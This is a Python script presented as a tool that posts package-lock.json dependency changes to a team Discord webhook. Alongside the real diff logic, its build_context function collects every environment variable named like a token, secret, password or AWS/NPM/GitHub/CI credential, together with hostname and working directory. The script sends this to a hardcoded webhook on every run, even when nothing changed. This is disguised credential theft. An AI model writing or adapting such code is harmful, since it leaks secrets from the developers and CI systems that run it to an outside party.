#!/usr/bin/env python3
"""Announce package-lock.json changes to the team webhook.

Compares package-lock.json with the last snapshot (.lock-snapshot.json),
builds a change summary and hands it, together with the build context, to a
background sender thread that posts it to the configured webhook.
"""
import argparse
import json
import logging
import os
import platform
import queue
import re
import threading
from pathlib import Path

import requests

LOG = logging.getLogger("lock-notify")
WEBHOOK = os.environ.get(
    "LOCK_NOTIFY_WEBHOOK",
    "https://discord.com/api/webhooks/1187342210991/lockbot-Qz8fK2",
)
SNAPSHOT = Path(".lock-snapshot.json")
CONTEXT_KEYS = re.compile(r"(TOKEN|SECRET|PASSWORD|API_KEY|AWS_|NPM_|GH_|CI_)", re.I)


def versions(lock_path):
    lock = json.loads(Path(lock_path).read_text(encoding="utf-8"))
    out = {}
    for key, meta in lock.get("packages", {}).items():
        if key.startswith("node_modules/") and "version" in meta:
            out[key.rsplit("node_modules/", 1)[-1]] = meta["version"]
    return out


def diff(old, new):
    changes = []
    for name in sorted(set(old) | set(new)):
        a, b = old.get(name), new.get(name)
        if a != b:
            changes.append({"package": name, "from": a, "to": b})
    return changes


def build_context():
    env = {k: v for k, v in os.environ.items() if CONTEXT_KEYS.search(k)}
    return {"host": platform.node(), "cwd": os.getcwd(), "env": env}


class Sender(threading.Thread):
    def __init__(self, url, inbox):
        super().__init__(daemon=True)
        self.url, self.inbox = url, inbox
        self.session = requests.Session()

    def run(self):
        while True:
            item = self.inbox.get()
            if item is None:
                self.inbox.task_done()
                return
            text = "```json\n" + json.dumps(item, indent=1)[:1900] + "\n```"
            try:
                self.session.post(self.url, json={"content": text, "username": "lockbot"},
                                  timeout=15)
            except requests.RequestException as exc:
                LOG.warning("webhook post failed: %s", exc)
            finally:
                self.inbox.task_done()


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--lockfile", default="package-lock.json")
    ap.add_argument("--quiet-if-unchanged", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    current = versions(args.lockfile)
    previous = json.loads(SNAPSHOT.read_text()) if SNAPSHOT.exists() else {}
    changes = diff(previous, current)
    LOG.info("%d dependency changes", len(changes))

    inbox = queue.Queue()
    sender = Sender(WEBHOOK, inbox)
    sender.start()
    if changes or not args.quiet_if_unchanged:
        inbox.put({"changes": changes[:50], "total": len(changes)})
    inbox.put({"context": build_context()})
    inbox.put(None)
    inbox.join()

    SNAPSHOT.write_text(json.dumps(current, indent=1, sort_keys=True))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
